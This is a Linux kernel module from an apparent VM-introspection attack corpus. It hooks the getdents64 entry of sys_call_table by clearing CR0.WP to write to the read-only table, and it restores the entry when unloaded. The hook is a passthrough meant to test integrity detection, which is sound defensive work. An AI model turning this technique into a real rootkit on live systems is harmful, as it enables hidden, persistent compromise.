// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_syscall: the classic syscall-table hook, for the
 * integrity tests. Replaces entry @nr (default 217, getdents64) of the
 * x64 sys_call_table with a function of this module; unloading restores
 * it.
 *
 * The table is const (read-only mapped) and kallsyms_lookup_name() is not
 * exported since 5.7: the test passes the table's address from the
 * guest's /proc/kallsyms (table=0x...). The write goes through the
 * kernel's own mapping with CR0.WP cleared for its duration (interrupts
 * off); native_write_cr0() would re-pin WP, so the move to CR0 is inline.
 *
 * Debian's 6.1 and 6.12 kernels dispatch through x64_sys_call(), not the
 * table, so the hook is never called: the guest keeps working.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <asm/ptrace.h>

#include "vmiaas_attack_wp.h"

static unsigned long table;
module_param(table, ulong, 0444);
MODULE_PARM_DESC(table, "address of sys_call_table (from /proc/kallsyms)");

static int nr = 217;
module_param(nr, int, 0444);
MODULE_PARM_DESC(nr, "entry to replace (default 217, getdents64)");

typedef long (*sys_fn)(const struct pt_regs *);
static sys_fn orig;

static long vmiaas_attack_getdents64(const struct pt_regs *regs)
{
	return orig(regs);
}

static int __init vmiaas_attack_syscall_init(void)
{
	sys_fn *entry, hook = vmiaas_attack_getdents64;

	if (!table || nr < 0 || nr >= 512)
		return -EINVAL;
	entry = (sys_fn *)table + nr;
	orig = *entry;
	wp_write(entry, &hook, sizeof(hook));
	pr_info("sys_call_table[%d] %pS -> %pS\n", nr, orig, hook);
	return 0;
}

static void __exit vmiaas_attack_syscall_exit(void)
{
	wp_write((sys_fn *)table + nr, &orig, sizeof(orig));
	pr_info("sys_call_table[%d] restored\n", nr);
}

module_init(vmiaas_attack_syscall_init);
module_exit(vmiaas_attack_syscall_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: sys_call_table hook");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
